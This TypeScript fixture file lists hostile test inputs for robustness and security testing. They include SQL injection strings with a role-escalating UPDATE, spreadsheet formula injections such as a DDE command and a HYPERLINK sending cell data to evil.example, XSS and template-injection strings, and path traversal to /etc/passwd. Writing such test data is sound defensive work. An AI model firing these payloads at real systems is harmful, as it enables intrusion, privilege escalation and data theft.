/** Texts that mean something to SQL, to a shell, to a spreadsheet, to a browser, to JavaScript, or to nobody. */
export const HOSTILE_TEXTS = [
  '',
  ' ',
  '\0',
  'a\0b',
  '\ud800',
  '\u202e\u200b',
  "'",
  '"',
  "' OR '1'='1",
  "'; DROP TABLE milestone; --",
  '$1',
  '%s%n',
  '../../etc/passwd',
  '__proto__',
  'constructor',
  '[object Object]',
  '=1+1',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '${7*7}',
  'NaN',
  'null',
  '2025-02-30',
  '9999999999999999999999',
  '👨‍👩‍👧‍👦',
  'ﷺ'.repeat(500),
  'x'.repeat(9000),
];

export const HOSTILE_NUMBERS: unknown[] = [-1, 101, 2 ** 31 - 1, -(2 ** 31), 2 ** 31, 2 ** 53, 1e308, 0.1, -0];

/** Values of another kind than any field asks for. */
export const WRONG_KINDS: unknown[] = [null, true, 0, 1.5, '', [], {}, [[]], { a: { b: [null] } }, ['x'], { __proto__: null, toString: 1 }];

/** What SQL would do with a text that was pasted into a statement: fail, answer too much, wait, or change something. */
export const SQL_PAYLOADS = [
  "'",
  "''",
  '"',
  '\\',
  "\\'",
  "' OR '1'='1",
  "' OR 1=1 --",
  "') OR ('1'='1",
  "' UNION SELECT NULL --",
  "none' OR code IS NOT NULL --",
  "'; SELECT pg_sleep(1.5); --",
  "' || pg_sleep(1.5) || '",
  "none' OR (SELECT 1 FROM pg_sleep(1.5)) IS NOT NULL --",
  "'; UPDATE account SET role = 'ADMINISTRATOR'; --",
  "'; SELECT set_config('app.role', 'ADMINISTRATOR', true); --",
  '$$; SELECT pg_sleep(1.5); $$',
  '1; SELECT pg_sleep(1.5)',
  "E'\\x27'",
  '%',
  "{'a','b'}",
];

/** Texts that a spreadsheet, a page, a template or a log would act upon, written as an honest person's words. */
export const PAYLOADS = [
  '=1+1',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"열기")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  '</textarea><script>alert(1)</script>',
  '<a href="javascript:alert(1)">확인</a>',
  '<style>*{display:none}</style>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)} `alert(1)`',
  '&lt;b&gt; &amp;amp; &#39;',
  '\u202etxt.exe\u202c 가\u200b나',
  'INFO 2026-01-01 \u001b[31mfalse line\u001b[0m',
  '{"json": [1, null]} \\u0041 \\n %0d%0a',
];
